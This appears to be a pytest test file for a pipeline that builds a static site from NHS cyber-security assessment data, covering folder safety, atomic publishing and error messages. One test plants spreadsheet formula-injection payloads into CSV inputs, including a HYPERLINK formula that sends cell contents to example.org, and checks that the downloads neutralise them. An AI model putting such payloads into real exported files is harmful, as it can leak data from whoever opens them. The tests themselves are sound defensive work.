"""What the build refuses and what it guards: no edition leaves the site unnoticed, no file it did
not make is touched, one build at a time, and the site's path is always a whole site."""

from __future__ import annotations

import logging
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from opencyber.cli import main
from opencyber.errors import FolderError, NoDataError
from opencyber.pipeline.build import build

ROOT = Path(__file__).resolve().parents[1]


def two_editions(tmp_path, monkeypatch) -> Path:
    """Editions 2023-24 (inputs in a/) and 2024-25 (inputs in b/, previous = 2023-24)."""
    from tests.synthetic import REGISTRY, write_edition

    data = tmp_path / "data"
    write_edition(data, "a")
    write_edition(data, "b")
    first = REGISTRY.format(folder="a", overrides="").replace('previous = "2022-23"\n', "")
    second = (
        REGISTRY.format(folder="b", overrides="")
        .replace('id = "2023-24"', 'id = "2024-25"')
        .replace('label = "2023/24"', 'label = "2024/25"')
        .replace('previous = "2022-23"', 'previous = "2023-24"')
        .replace('dspt_edition = "2023-24"', 'dspt_edition = "23/24"')
        .replace("snapshot = 2024-09-01", "snapshot = 2025-09-01")
    )
    registry = tmp_path / "editions.toml"
    registry.write_text(first + second, encoding="utf-8")
    monkeypatch.setenv("OPEN_CYBER_REGISTRY", str(registry))
    return data


def dirs(tmp_path) -> dict:
    return dict(build_dir=tmp_path / "build", site_dir=tmp_path / "site", renderer="nbconvert")


def site_files(site: Path) -> dict:
    """Every file a reader can get from the site (not its manifest, a dotfile), with its bytes."""
    return {
        p.relative_to(site).as_posix(): p.read_bytes()
        for p in sorted(site.rglob("*"))
        if p.is_file() and not p.name.startswith(".")
    }


# ---------------------------------------------------------------------------------------------
# the build owns only what it made


def test_a_site_folder_with_someone_elses_files_is_refused_and_left_as_it_was(synthetic, tmp_path, capsys):
    data, _ = synthetic
    theirs = tmp_path / "d"
    theirs.mkdir()
    (theirs / "important.txt").write_text("x")
    rc = main(
        [
            "build",
            "--data",
            str(data),
            "--build-dir",
            str(tmp_path / "build"),
            "--site-dir",
            str(theirs),
            "--renderer",
            "nbconvert",
        ]
    )
    _out, err = capsys.readouterr()
    assert rc == 2
    assert err == (
        f"error: the site folder {theirs} holds files the build did not make (important.txt): give --site-dir "
        "a new or empty folder (the build replaces the whole folder with the site)\n"
    )
    assert [p.name for p in theirs.iterdir()] == ["important.txt"] and (theirs / "important.txt").read_text() == "x"
    assert not (tmp_path / "build").exists()  # refused before anything was written


def test_the_working_folder_as_site_is_refused(synthetic, tmp_path, monkeypatch, capsys):
    data, _ = synthetic
    work = tmp_path / "work"
    work.mkdir()
    (work / "notes.md").write_text("mine")
    monkeypatch.chdir(work)
    rc = main(
        [
            "build",
            "--data",
            str(data),
            "--build-dir",
            str(tmp_path / "build"),
            "--site-dir",
            ".",
            "--renderer",
            "nbconvert",
        ]
    )
    assert rc == 2 and "holds files the build did not make (notes.md)" in capsys.readouterr().err
    assert [p.name for p in work.iterdir()] == ["notes.md"]


def test_a_build_folder_with_someone_elses_files_is_refused(synthetic, tmp_path):
    data, _ = synthetic
    (tmp_path / "build").mkdir()
    (tmp_path / "build" / "thesis.docx").write_text("x")
    with pytest.raises(FolderError, match=r"holds files the build did not make \(thesis.docx\)"):
        build(data, **dirs(tmp_path))
    assert [p.name for p in (tmp_path / "build").iterdir()] == ["thesis.docx"]


def test_a_build_folder_of_an_earlier_version_is_adopted(synthetic, tmp_path):
    data, _ = synthetic
    for name in ("pages", ".cache", "2023-24"):
        (tmp_path / "build" / name).mkdir(parents=True)
    build(data, **dirs(tmp_path))
    assert (tmp_path / "build" / ".opencyber-build").is_file() and (tmp_path / "site" / "index.html").is_file()


def test_the_site_is_a_link_to_a_whole_release_and_old_releases_are_removed(synthetic, tmp_path):
    data, _ = synthetic
    build(data, **dirs(tmp_path))
    site = tmp_path / "site"
    first = os.readlink(site)
    assert site.is_symlink() and not os.path.isabs(first)  # relative: the folders can be moved together
    export = data / "23_24" / "dspt_export.csv"
    export.write_text(export.read_text().replace("23/24 Approaching Standards", "23/24 Standards Met"))
    build(data, **dirs(tmp_path))
    assert os.readlink(site) != first
    releases = sorted(p.name for p in (tmp_path / "site.releases").iterdir() if p.is_dir())
    assert releases == [Path(os.readlink(site)).name]


# ---------------------------------------------------------------------------------------------
# nothing disappears silently


def test_an_edition_on_the_site_whose_inputs_are_gone_stops_the_build(tmp_path, monkeypatch, caplog):
    data = two_editions(tmp_path, monkeypatch)
    build(data, **dirs(tmp_path))
    (data / "a" / "dspt_export.csv").rename(tmp_path / "moved.csv")
    for f in (data / "a").iterdir():
        f.unlink()
    before = site_files(tmp_path / "site")
    with pytest.raises(
        NoDataError, match="edition 2023-24 is on the site, but none of its input files is in the data directory"
    ):
        build(data, **dirs(tmp_path))
    assert site_files(tmp_path / "site") == before
    result = build(data, skip_missing=True, **dirs(tmp_path))  # said explicitly: built without it, with a warning
    assert [e.id for e in result.editions] == ["2024-25"]
    assert "edition 2023-24 is on the site" in caplog.text


@pytest.mark.parametrize("damage", ["missing", "folder"])
def test_an_edition_with_an_input_missing_or_a_folder_stops_the_build(tmp_path, monkeypatch, damage):
    data = two_editions(tmp_path, monkeypatch)
    lookup = data / "b" / "lookup.csv"
    lookup.unlink()
    if damage == "folder":
        lookup.mkdir()
    expected = f"input {lookup} is a folder, not a file" if damage == "folder" else f"1 input file(s) missing: {lookup}"
    with pytest.raises(NoDataError) as e:
        build(data, **dirs(tmp_path))
    assert f"edition 2024-25: {expected}" in str(e.value) and "--skip-missing" in str(e.value)
    assert not (tmp_path / "site").exists()


def test_a_one_edition_build_rebuilds_the_editions_that_compare_with_it(tmp_path, monkeypatch):
    data = two_editions(tmp_path, monkeypatch)
    build(data, **dirs(tmp_path))
    export = data / "a" / "dspt_export.csv"  # re-encoded: the same organisations, other bytes
    export.write_bytes(export.read_bytes().replace(b"\n", b"\r\n"))
    again = build(data, editions=["2023-24"], **dirs(tmp_path))
    assert sorted(again.executed) == sorted(
        f"{e}/{nb}"
        for e in ("2023-24", "2024-25")
        for nb in ("01_curation.ipynb", "02_scoring.ipynb", "03_report.ipynb")
    )
    assert [e.id for e in again.editions] == ["2024-25", "2023-24"]
    assert (tmp_path / "site" / "2024-25.html").is_file() and "Latest edition: 2024/25" in (
        tmp_path / "site" / "index.html"
    ).read_text()


def test_after_a_notebook_edit_a_one_edition_build_keeps_the_others_and_says_so(tmp_path, monkeypatch, caplog):
    import shutil

    from opencyber import stages

    data = two_editions(tmp_path, monkeypatch)
    notebooks = tmp_path / "notebooks"
    shutil.copytree(stages.NOTEBOOKS, notebooks)
    monkeypatch.setattr(stages, "NOTEBOOKS", notebooks)
    build(data, **dirs(tmp_path))
    report = notebooks / "03_report.ipynb"
    report.write_text(report.read_text().replace("## Caveats", "## Caveats and limits"))
    caplog.set_level(logging.INFO, logger="opencyber")
    caplog.clear()
    again = build(data, editions=["2024-25"], **dirs(tmp_path))
    assert again.executed == ["2024-25/03_report.ipynb"]
    assert [e.id for e in again.editions] == ["2024-25", "2023-24"]  # the other edition stays on the site
    assert again.states["2023-24"].startswith("OUT OF DATE, kept as last built: notebooks/03_report.ipynb changed")
    assert "Editions on the site:\n  2024-25: built now (1 notebook(s) executed)\n  2023-24: OUT OF DATE" in caplog.text
    site = tmp_path / "site"
    assert (
        "Caveats and limits" in (site / "2024-25.html").read_text()
        and "Caveats and limits" not in (site / "2023-24.html").read_text()
    )
    assert (site / "downloads" / "2023-24" / "organisations.csv").is_file()
    full = build(data, **dirs(tmp_path))  # without --edition: brought up to date
    assert full.executed == ["2023-24/03_report.ipynb"] and set(full.states.values()) == {
        "up to date",
        "built now (1 notebook(s) executed)",
    }


def test_a_damaged_executed_notebook_is_found_and_executed_again(synthetic, tmp_path):
    data, _ = synthetic
    build(data, **dirs(tmp_path))
    page = tmp_path / "build" / "pages" / "2023-24.ipynb"
    page.write_bytes(page.read_bytes()[:5000])  # cut short
    again = build(data, **dirs(tmp_path))
    assert again.executed == ["2023-24/03_report.ipynb"]
    assert page.stat().st_size > 5000


def test_the_summary_lists_every_edition_and_its_state(synthetic, tmp_path, caplog):
    data, _ = synthetic
    build(data, **dirs(tmp_path))
    caplog.set_level(logging.INFO, logger="opencyber")
    caplog.clear()
    build(data, **dirs(tmp_path))
    assert caplog.records[-1].getMessage() == "Editions on the site:\n  2023-24: up to date"


# ---------------------------------------------------------------------------------------------
# one build at a time; the site's path is always a whole site


def _build_cmd(data: Path, tmp_path: Path) -> list[str]:
    return [
        sys.executable,
        "-m",
        "opencyber",
        "build",
        "--data",
        str(data),
        "--build-dir",
        str(tmp_path / "build"),
        "--site-dir",
        str(tmp_path / "site"),
        "--renderer",
        "nbconvert",
    ]


def test_two_builds_at_once_leave_one_complete_site(synthetic, tmp_path):
    data, registry = synthetic
    env = {**os.environ, "OPEN_CYBER_REGISTRY": str(registry)}
    procs = [
        subprocess.Popen(
            _build_cmd(data, tmp_path), env=env, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True
        )
        for _ in range(2)
    ]
    outs = [p.communicate(timeout=600)[0] for p in procs]
    assert [p.returncode for p in procs] == [0, 0], outs
    assert any("waiting for it to finish" in o for o in outs), outs  # the second one waited for the first
    site = tmp_path / "site"
    once = site_files(site)
    for name, text in once.items():
        if name.endswith(".html"):
            html = text.decode()
            assert html.count('<footer class="oc-footer">') == 1, name  # post-processed once
            assert (
                html.count(
                    '<div class="oc-table-wrap" role="region" tabindex="0" aria-label="Table (scrolls '
                    'sideways on a small screen)"><div class="oc-table-wrap"'
                )
                == 0
            ), name
    fresh = tmp_path / "fresh"
    fresh.mkdir()
    subprocess.run(_build_cmd(data, fresh), env=env, check=True, capture_output=True)
    assert site_files(fresh / "site") == once  # the same site as one build alone


def test_a_build_killed_at_any_moment_leaves_a_whole_site(synthetic, tmp_path):
    """Killed (SIGKILL) while it writes the new site: the site's path still holds the whole previous
    site, and the next build completes it."""
    data, registry = synthetic
    env = {**os.environ, "OPEN_CYBER_REGISTRY": str(registry)}
    subprocess.run(_build_cmd(data, tmp_path), env=env, check=True, capture_output=True)
    before = site_files(tmp_path / "site")
    export = data / "23_24" / "dspt_export.csv"
    export.write_text(export.read_text().replace("23/24 Approaching Standards", "23/24 Standards Met"))
    proc = subprocess.Popen(_build_cmd(data, tmp_path), env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    releases = tmp_path / "site.releases"
    deadline = time.monotonic() + 300
    while not list(releases.glob("*.partial")) and proc.poll() is None and time.monotonic() < deadline:
        time.sleep(0.01)  # until it writes the new release
    proc.send_signal(signal.SIGKILL)
    proc.wait()
    assert site_files(tmp_path / "site") == before
    subprocess.run(_build_cmd(data, tmp_path), env=env, check=True, capture_output=True)
    after = site_files(tmp_path / "site")
    assert after != before and after["index.html"]
    assert not list(releases.glob("*.partial"))


def test_the_switch_to_a_new_site_is_one_rename(tmp_path, monkeypatch):
    """If the process dies at the switch itself (the rename fails), the previous site is whole."""
    from opencyber.site import publish

    site = tmp_path / "site"
    first = publish.new_release(site)
    (first / "index.html").write_text("one")
    publish.switch(site, first, {"editions": []})
    second = publish.new_release(site)
    (second / "index.html").write_text("two")

    def dies(*args):
        raise KeyboardInterrupt

    monkeypatch.setattr(publish.os, "replace", dies)
    with pytest.raises(KeyboardInterrupt):
        publish.switch(site, second, {"editions": []})
    assert (site / "index.html").read_text() == "one"
    monkeypatch.undo()
    third = publish.new_release(site)
    (third / "index.html").write_text("three")
    publish.switch(site, third, {"editions": []})
    assert (site / "index.html").read_text() == "three"
    assert sorted(p.name for p in site.parent.iterdir() if not p.name.startswith(".")) == ["site", "site.releases"]


# ---------------------------------------------------------------------------------------------
# the same inputs give the same bytes, cache or no cache


def build_outputs(build_dir: Path, site: Path) -> dict:
    """Every output of a build, with its bytes: the edition's CSVs, the outputs across editions, the
    executed notebooks, and every file of the site."""
    files = {
        f"build/{p.relative_to(build_dir).as_posix()}": p.read_bytes()
        for p in sorted(build_dir.rglob("*"))
        if p.is_file() and p.suffix in (".csv", ".json", ".geojson", ".ipynb") and ".cache" not in p.parts
    }
    return files | {f"site/{k}": v for k, v in site_files(site).items()}


@pytest.mark.data
def test_a_build_from_the_cache_is_byte_identical_to_a_fresh_one(data_dir, tmp_path):
    """2022/23 from the real data (42 ICB polygons, the pies placed inside them): built cold, then
    every notebook executed again with all that the build's cache holds: every file the same."""
    kw = dict(editions=["2022-23"], build_dir=tmp_path / "build", site_dir=tmp_path / "site", renderer="nbconvert")
    build(data_dir, **kw)
    fresh = build_outputs(tmp_path / "build", tmp_path / "site")
    assert (
        len([k for k in fresh if k.endswith(".ipynb")]) == 3 + 7  # the edition's and the site's own (pages/)
        and len(list((tmp_path / "build" / ".cache").rglob("*.pickle"))) >= 5
    )
    build(data_dir, force=True, **kw)
    cached = build_outputs(tmp_path / "build", tmp_path / "site")
    assert sorted(cached) == sorted(fresh)
    assert [k for k in fresh if cached[k] != fresh[k]] == []


# ---------------------------------------------------------------------------------------------
# downloads are safe to open in a spreadsheet

FORMULAS = {
    "ALPHA HOSPITAL NHS TRUST": '=HYPERLINK("http://example.org/?"&A1,"Click")',
    "BETA HOSPITAL NHS TRUST": "+SUM(1,2)",
    "ALPHA COMMUNITY NHS TRUST": "-2+3 COMMUNITY",
    "SILENT NHS TRUST": "@SUM(1)",
}


def test_no_download_cell_runs_as_a_formula(synthetic, tmp_path):
    import csv

    from opencyber.site.downloads import unsafe_cells

    data, _ = synthetic
    etr = data / "23_24" / "etr.csv"
    text = etr.read_text()
    for name, formula in FORMULAS.items():
        text = text.replace(f'"{name}"', '"' + formula.replace('"', '""') + '"')
    etr.write_text(text)
    build(data, **dirs(tmp_path))
    site = tmp_path / "site"
    offered = sorted(site.rglob("*.csv"))
    assert len(offered) >= 8
    assert {p: unsafe_cells(p) for p in offered if unsafe_cells(p)} == {}
    rows = list(csv.DictReader((site / "downloads" / "2023-24" / "organisations.csv").open(encoding="utf-8")))
    names = {r["code"]: r["name"] for r in rows}
    assert names["RAA"] == "'" + FORMULAS["ALPHA HOSPITAL NHS TRUST"] and names["RAF"] == "'@SUM(1)"
    assert {r["score"] for r in rows if r["code"] == "RAF"} == {"-3"}  # numbers stay numbers
    raw = list(csv.DictReader((tmp_path / "build" / "2023-24" / "organisations.csv").open(encoding="utf-8")))
    assert {r["code"]: r["name"] for r in raw}["RAA"] == FORMULAS[
        "ALPHA HOSPITAL NHS TRUST"
    ]  # the build's own output as read


def test_neutralise_keeps_numbers_and_prefixes_formulas():
    from opencyber.site.downloads import neutralise

    assert [neutralise(c) for c in ("-3", "-0.09", "+1", "1e5", "", "NHS", "=1+1", "-x", "@a", "\tA", "\rA", "+")] == [
        "-3",
        "-0.09",
        "+1",
        "1e5",
        "",
        "NHS",
        "'=1+1",
        "'-x",
        "'@a",
        "'\tA",
        "'\rA",
        "'+",
    ]


# ---------------------------------------------------------------------------------------------
# no traceback reaches a user


def test_a_full_disk_is_one_error_line(synthetic, tmp_path):
    """Files over 100 KB cannot be written (RLIMIT_FSIZE: the kernel says 'File too large', as a
    full disk says 'No space left on device'): one line, exit 2, and the next build, with room,
    completes the site."""
    import resource

    data, registry = synthetic
    env = {**os.environ, "OPEN_CYBER_REGISTRY": str(registry)}

    def small_files():
        resource.setrlimit(resource.RLIMIT_FSIZE, (100_000, 100_000))

    proc = subprocess.run(_build_cmd(data, tmp_path), env=env, preexec_fn=small_files, capture_output=True, text=True)
    assert proc.returncode == 2 and "Traceback" not in proc.stdout + proc.stderr
    assert proc.stderr.count("\n") == 1 and proc.stderr.startswith("error: ") and "File too large" in proc.stderr
    assert "free some space" in proc.stderr and str(tmp_path) in proc.stderr
    subprocess.run(_build_cmd(data, tmp_path), env=env, check=True, capture_output=True)
    assert (tmp_path / "site" / "2023-24.html").is_file()


def test_a_read_only_build_folder_is_one_error_line(synthetic, tmp_path):
    """The build folder on a read-only file system (a tmpfs mounted read-only in a mount namespace of
    the test's own: needs root, as CI has)."""
    import shutil

    data, registry = synthetic
    if os.geteuid() != 0 or shutil.which("unshare") is None:
        pytest.skip("needs root and unshare to mount a read-only file system")
    ro = tmp_path / "ro"
    ro.mkdir()
    cmd = " ".join(
        f"'{c}'"
        for c in [
            *_build_cmd(data, tmp_path)[:-6],
            "--build-dir",
            str(ro / "build"),
            "--site-dir",
            str(tmp_path / "site"),
            "--renderer",
            "nbconvert",
        ]
    )
    proc = subprocess.run(
        ["unshare", "-m", "sh", "-c", f"mount -t tmpfs -o ro tmpfs '{ro}' && exec {cmd}"],
        env={**os.environ, "OPEN_CYBER_REGISTRY": str(registry)},
        capture_output=True,
        text=True,
    )
    assert proc.returncode == 2 and "Traceback" not in proc.stdout + proc.stderr
    assert proc.stderr == (
        f"error: {ro / 'build'}: Read-only file system; the folder is on a read-only disk: choose a "
        "writable folder (--build-dir, --site-dir)\n"
    )


def test_a_cell_that_fails_on_one_edition_names_it_and_the_others_are_built(tmp_path, monkeypatch, capsys):
    """An edit of the report notebook that works for one edition and fails on the other: every
    edition's notebook runs, and the failure names the edition, the notebook and the cell."""
    import json
    import shutil

    from opencyber import stages

    data = two_editions(tmp_path, monkeypatch)
    notebooks = tmp_path / "notebooks"
    shutil.copytree(stages.NOTEBOOKS, notebooks)
    monkeypatch.setattr(stages, "NOTEBOOKS", notebooks)
    report = notebooks / "03_report.ipynb"
    nb = json.loads(report.read_text())
    nb["cells"].append(
        {
            "cell_type": "code",
            "execution_count": None,
            "id": "breaks-2023-24",
            "metadata": {},
            "outputs": [],
            "source": ["if ed.id == '2023-24':\n", "    raise KeyError('no maps')"],
        }
    )
    report.write_text(json.dumps(nb))
    rc = main(
        [
            "build",
            "--data",
            str(data),
            "--build-dir",
            str(tmp_path / "build"),
            "--site-dir",
            str(tmp_path / "site"),
            "--renderer",
            "nbconvert",
        ]
    )
    out, err = capsys.readouterr()
    assert rc == 2
    assert err == (
        f"error: edition 2023-24, notebooks/03_report.ipynb, cell {len(nb['cells'])} (if ed.id == '2023-24':): "
        f"KeyError: 'no maps' (the traceback is in {tmp_path / 'build' / 'opencyber.log'})\n"
    )
    assert "2023-24 03_report.ipynb: FAILED (below)" in out and "2024-25 03_report.ipynb:" in out
    assert (tmp_path / "build" / "pages" / "2024-25.ipynb").is_file()  # the other edition was built
    assert "KeyError: 'no maps'" in (tmp_path / "build" / "opencyber.log").read_text()
    assert not (tmp_path / "site").exists()  # no site with a failed edition
